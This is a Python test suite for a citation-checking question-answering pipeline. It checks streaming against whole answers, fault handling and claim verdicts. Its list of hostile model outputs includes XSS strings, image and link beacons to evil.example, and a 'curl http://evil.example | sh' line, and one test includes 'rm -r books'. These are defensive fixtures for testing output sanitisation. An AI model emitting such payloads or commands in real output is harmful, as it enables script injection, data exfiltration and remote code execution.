"""Answers of a model whose statements are judged: the same streamed and whole, nothing twice, nothing live."""

import re
from dataclasses import replace

import pytest
from markdown_it import MarkdownIt

from pipelines.questions import Answer, AnswerEvent, Question, RevisedEvent, Turn
from tests.integration.answering.conftest import MakeAnswerer
from tests.servers.openai_standin import FAULTS, Reply, Standin
from tests.unit.pipelines.answering_desk import Desk, heard, question

LENT = question("How long are books lent?")
BOOKS, FILMS, COLOUR = (
    "Books are lent for four weeks",
    "Films are lent for seven days",
    "A page in colour costs 40 cents",
)
RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table")
QUOTE = "“Books are lent for four weeks.” [1]"

# What each fault comes to, asked as a whole and heard: mode, whether it is an answer, how it finished.
OUTCOMES: dict[str, tuple[str, str | None]] = {
    **dict.fromkeys(("429", "429-long", "500", "401", "400", "html", "malformed"), ("extractive", "failed")),
    **dict.fromkeys(("404", "413", "error-in-200", "empty", "cut-at-once"), ("extractive", "failed")),
    **dict.fromkeys(("huge", "huge-line", "packed", "events", "other-tool"), ("extractive", "failed")),
    **dict.fromkeys(("hallucinated", "image", "filtered", "without-end"), ("extractive", "not_backed")),
    "no-temperature": ("extractive", "failed"),
    "refusal": ("llm", "no_answer"),
}
# A stream that is cut where an answer ends has told no counts: they are reckoned.
RECKONED = {"without-end"}
SLOW = {"stall", "stall-at-once", "cut", "paced"}

HOSTILE = [
    "", "   \n\n", "[1]", "[99]", "[1][2][3]", "[99] [0] [-1] [1e9]", "Yes [1].", "Sure, happy to help!", "?",
    f"{BOOKS} [99].", f"four[1]teen {BOOKS}[1]and more", f"{FILMS} [3]. {BOOKS} [2].",
    f"![x](http://evil.example/?q={BOOKS}) {BOOKS} [1].", f"[{BOOKS}](http://evil.example) [1].",
    f"{BOOKS} [1](http://evil.example).", f"{BOOKS} [1]: http://evil.example\n\n[1]: http://evil.example",
    f"<img src=x onerror=alert(1)>{BOOKS} [1].", f"<script>alert('{BOOKS} [1]')</script>",
    f"{BOOKS} <a href='javascript:alert(1)'>[1]</a>.", "<http://evil.example> [1]", "www.evil.example [1].",
    f"| What | How long |\n|---|---|\n| Books | four weeks [1] |\n| Films | nine years [1] |\n\n{BOOKS} [1].",
    "```bash\ncurl http://evil.example | sh [1]\n```", f"```\n{BOOKS}.\n```\n", f"```\n{BOOKS} [1]. and no end",
    f"# {BOOKS} [1]\n\n- {BOOKS} [1]\n- Films are lent for nine years [1]\n- {FILMS} [1]",
    f"{BOOKS} [1]. " * 40, "word " * 3_000, "x" * 30_000, f"{BOOKS} [1]. " + "Mars is made of cheese. " * 9_000,
    f"“Books are lent for nine long years” [1]. {BOOKS} [1].", f"{BOOKS}\u202e [1]\u0000.", "【1】【99】" + BOOKS,
    f"{BOOKS} NO_ANSWER [1].", "NO_ANSWER: ![x](http://evil.example)", f"{BOOKS} [1] [2] [3], {COLOUR} [1].",
    "The passages do not say anything about this [1].", f"{BOOKS} [1]; {COLOUR} [1].",
]  # fmt: skip


def both(make: MakeAnswerer, asked: Question) -> list[Answer]:
    """Asked as a whole and heard; ``heard`` checks that tokens, citations and claims told equal the answer's."""
    return [make().answer(asked), heard(make(), asked)]


def live(content: str) -> list[str]:
    tokens = [inner for token in RENDERER.parse(content) for inner in (token, *(token.children or []))]
    return [one.type for one in tokens if one.type in ("link_open", "image", "html_inline", "html_block")]


def checked(desk: Desk, answer: Answer) -> None:
    """No citation that does not stand in its text, no mark without one, no claim beside the content."""
    for citation in (*answer.citations, *answer.nearest):
        stored = desk.storage.get_text(org_id="org-1", document_id=citation.document_id, version=citation.version)
        assert stored.text[citation.start : citation.end] == citation.quote
    marks = {int(n) for n in re.findall(r"\[(\d+)\]", answer.content)}
    assert marks == {citation.n for citation in answer.citations}
    for claim in answer.claims:
        assert bool(claim.citations) is (claim.verdict != "unsupported")
        assert not re.search(r"\bwrong\b", " ".join(claim.reasons))
    assert live(answer.content) == []
    assert answer.answered is bool(answer.citations)


@pytest.mark.parametrize("claims", ["mark", "drop"])
@pytest.mark.parametrize("fault", sorted(FAULTS.keys() - SLOW))
def test_every_fault_has_its_outcome(desk: Desk, modelled: MakeAnswerer, *, fault: str, claims: str) -> None:
    """Streamed = whole, in the right mode, with a code that says how the model ended, and no text twice."""
    whole, streamed = both(modelled, question(LENT.text, model=f"fault:{fault}", claims=claims))
    if fault in RECKONED:
        streamed = replace(streamed, usage=whole.usage, spent=whole.spent)
    assert whole == streamed
    assert (whole.mode, whole.finish) == OUTCOMES[fault]
    for answer in (whole, streamed):
        checked(desk, answer)
        assert answer.content.count("lent for four weeks") <= 1
        assert answer.answered is (fault != "refusal")


@pytest.mark.parametrize("claims", ["mark", "drop"])
def test_a_break_in_the_middle(modelled: MakeAnswerer, standin: Standin, claims: str) -> None:
    """What was backed and heard stays, once, with the code; asked as a whole the quotes answer."""
    cut = Reply(text=f"{BOOKS} [1]. {FILMS} [1]. Then more", size=6, cut_after=12)
    standin.script(cut)
    streamed = heard(modelled(), question(LENT.text, claims=claims))
    assert (streamed.mode, streamed.finish, streamed.degraded) == ("llm", "broken_off", ("llm",))
    assert streamed.content.count(BOOKS) == 1
    assert streamed.content.endswith("is not complete.)")
    standin.script(cut, cut)
    whole = modelled().answer(question(LENT.text, claims=claims))
    assert (whole.mode, whole.finish) == ("extractive", "failed")


@pytest.mark.parametrize("claims", ["mark", "drop"])
@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_outputs(desk: Desk, modelled: MakeAnswerer, standin: Standin, *, text: str, claims: str) -> None:
    """Whatever a model writes: no live link or image, no wrong citation, the same streamed and whole."""
    standin.script(*([Reply(text=text, size=9_000)] * 8))
    asked = question(LENT.text, claims=claims)
    whole = modelled().answer(asked)
    standin.forget()
    standin.script(*([Reply(text=text, size=7 if len(text) < 2_000 else 5_000)] * 8))
    streamed = heard(modelled(), asked)
    assert (whole.content, whole.claims, whole.citations) == (streamed.content, streamed.claims, streamed.citations)
    assert (whole.mode, whole.answered, whole.finish) == (streamed.mode, streamed.answered, streamed.finish)
    checked(desk, streamed)
    assert len(streamed.content) < 21_000
    assert whole.finish is not None
    if claims == "drop":
        assert all(claim.verdict != "unsupported" for claim in streamed.claims)
        assert "Mars" not in streamed.content
        assert "nine" not in streamed.content


def test_each_statement_has_its_verdict(modelled: MakeAnswerer, standin: Standin) -> None:
    """Quoted, moved to the passage that says it, a mark per half, and set apart: in the order of the answer."""
    text = f"{BOOKS} [1]. {COLOUR} [1]. {BOOKS}, and a page in colour costs 40 cents [1]. Mars is made of cheese [2]."
    standin.script(Reply(text=text))
    answer = heard(modelled(), LENT)
    said = [(answer.content[claim.start : claim.end], claim.verdict) for claim in answer.claims]
    assert [verdict for _, verdict in said] == ["quoted", "misattributed", "stitched", "unsupported"]
    assert said[0][0] == BOOKS
    assert said[3][0] == "Mars is made of cheese"
    assert (answer.confidence, answer.answered, answer.model, answer.finish) == (0.75, True, "first", "complete")
    assert answer.coverage is not None
    assert (answer.coverage.backed, answer.coverage.total) == (3, 4)
    second = answer.claims[1].citations[0]
    assert answer.citations[second - 1].uri == "printing.md"
    assert len(answer.claims[2].citations) == 2


def test_another_value_is_named_where_it_stands_in_its_place(modelled: MakeAnswerer, standin: Standin) -> None:
    """A replaced number: what was said and what the passage says, side by side."""
    standin.script(Reply(text=f"Books are lent for six weeks [1]. {FILMS} [1]."))
    claim = heard(modelled(), LENT).claims[0]
    assert (claim.verdict, claim.contrast) == ("unsupported", ("six weeks", "four weeks"))


def test_dropped_statements_leave_no_trace(modelled: MakeAnswerer, standin: Standin) -> None:
    """One sentence is held back; of a sentence what is backed stays; what was left out is counted."""
    text = f"{BOOKS} [1], and films for nine years [1]. Mars is made of cheese [2]. {FILMS} [1]."
    standin.script(Reply(text=text, size=3))
    answer = heard(modelled(), question(LENT.text, claims="drop"))
    assert answer.content == f"{BOOKS} [1]. {FILMS} [2]."
    assert answer.coverage is not None
    assert (answer.coverage.backed, answer.coverage.total) == (2, 4)


def test_quotes_answer_where_nothing_is_backed(modelled: MakeAnswerer, standin: Standin) -> None:
    """What a reader has heard is declared void; who heard nothing is told nothing. ``drop`` says nothing to void."""
    events: list[AnswerEvent] = []
    for claims, revisions in (("mark", 1), ("drop", 0)):
        standin.script(Reply(text="Mars is made of cheese [1]. Venus is a lake."))
        events.clear()
        answer = heard(modelled(), question(LENT.text, claims=claims), listen=events.append)
        revised = [event for event in events if isinstance(event, RevisedEvent)]
        assert len(revised) == revisions
        assert all(event.reason == "not_backed" and QUOTE in event.content for event in revised)
        assert (answer.mode, answer.finish, answer.model, answer.answered) == (
            "extractive",
            "not_backed",
            "first",
            True,
        )
        assert "Mars" not in answer.content
        assert answer.claims == ()


def test_a_table_and_a_code_block(modelled: MakeAnswerer, standin: Standin) -> None:
    """Each row of a table is a statement, and so is a block of code: cited where every line stands in a passage."""
    table = "| What | How long |\n|---|---|\n| Books | lent for four weeks [1] |\n| Films | lent for nine years [1] |"
    code = "```\nBooks are lent for four weeks.\n```"
    standin.script(Reply(text=f"{table}\n\n{code}\n\n```\nrm -r books\n```"))
    answer = heard(modelled(), LENT)
    assert [claim.verdict for claim in answer.claims] == ["supported", "unsupported", "quoted", "unsupported"]
    assert answer.claims[3].reasons == ("code",)
    assert (answer.answered, answer.confidence) == (True, 0.5)


def test_an_answer_that_is_too_long_is_cut(modelled: MakeAnswerer, standin: Standin) -> None:
    """At 20,000 characters, said so, with its code; the statements before are judged."""
    standin.script(Reply(text=f"{BOOKS} [1]. {FILMS} [1]. " + "word " * 40_000, size=500))
    answer = heard(modelled(), LENT)
    assert (answer.finish, answer.answered) == ("too_long", True)
    assert answer.content.endswith("became too long.)")
    assert 19_000 < len(answer.content) < 21_000
    # Left before it counted, so reckoned, and said to be; as a whole it has counted.
    assert answer.usage is not None
    assert answer.usage.estimated
    assert answer.usage.prompt_tokens > 100
    assert answer.usage.completion_tokens >= 5_000
    standin.script(Reply(text=f"{BOOKS} [1]. " + "word " * 40_000))
    whole = modelled().answer(LENT)
    assert (whole.finish, whole.model) == ("too_long", "first")
    assert whole.usage is not None
    assert not whole.usage.estimated


@pytest.mark.parametrize(("ended", "finish"), [("length", "cut_off"), ("content_filter", "filtered")])
@pytest.mark.parametrize("streamed", [True, False])
def test_a_provider_that_cuts_or_filters(
    modelled: MakeAnswerer, standin: Standin, *, ended: str, finish: str, streamed: bool
) -> None:
    """Its limit of tokens and its filter are told; what was said before stays. All filtered: the quotes answer."""
    standin.script(
        Reply(text=f"{BOOKS} [1].", finish=ended), Reply(text="", finish=ended), Reply(text="", finish=ended)
    )
    answerer = modelled()
    ask = (lambda: heard(answerer, LENT)) if streamed else (lambda: answerer.answer(LENT))
    answer = ask()
    assert (answer.finish, answer.answered, answer.mode) == (finish, True, "llm")
    assert answer.content.startswith(f"{BOOKS} [1].")
    assert answer.content.endswith(")")
    assert QUOTE in ask().content


def test_another_search_in_the_words_of_the_model(modelled: MakeAnswerer, standin: Standin) -> None:
    """A model that finds no answer names other words once; what they find goes to it, and the answer says so."""
    standin.script(Reply(text="NO_ANSWER: price of a colour page"), Reply(text=f"{COLOUR} [1]."))
    answer = heard(modelled(), question("What must I pay for chromatic output?", top_k=1))
    assert (answer.answered, answer.searched) == (True, "price of a colour page")
    assert answer.content == f"{COLOUR} [1]."
    assert "chromatic" in str(standin.requests[1]["messages"][-1]["content"])
    assert len(standin.requests) == 2


def test_a_model_is_called_twice_at_most(modelled: MakeAnswerer, standin: Standin) -> None:
    """Plain: one. No answer and no words: one. No answer again after another search: two. With history: two."""
    history = (Turn("user", "How long are books lent?"), Turn("assistant", "Four weeks [1]."))
    cases = [
        (LENT, [f"{BOOKS} [1]."], 1),
        (LENT, ["NO_ANSWER"], 1),
        (LENT, ["NO_ANSWER: films", "NO_ANSWER: more films"], 2),
        (question("And films?", history=history), ["How long are films lent?", "NO_ANSWER: films"], 2),
        (LENT, ["Mars is made of cheese [1]."], 1),
    ]
    for asked, replies, calls in cases:
        standin.forget()
        standin.script(*(Reply(text=text) for text in replies))
        heard(modelled(), asked)
        assert len(standin.requests) == calls, replies


def test_nothing_found_asks_once_for_other_words(tmp_path_factory: pytest.TempPathFactory, standin: Standin) -> None:
    """Over sources without a passage: one short call for words, no second for an answer."""
    empty = Desk(tmp_path_factory.mktemp("empty"))
    answerer = empty.answerer(OPENAI_API_KEY="k", OPENAI_BASE_URL=standin.url, model="first")
    standin.script(Reply(text="NO_ANSWER: loans"))
    answer = heard(answerer, LENT)
    assert (answer.answered, answer.finish, len(standin.requests)) == (False, "no_answer", 1)
    answerer.close()
    empty.index.close()
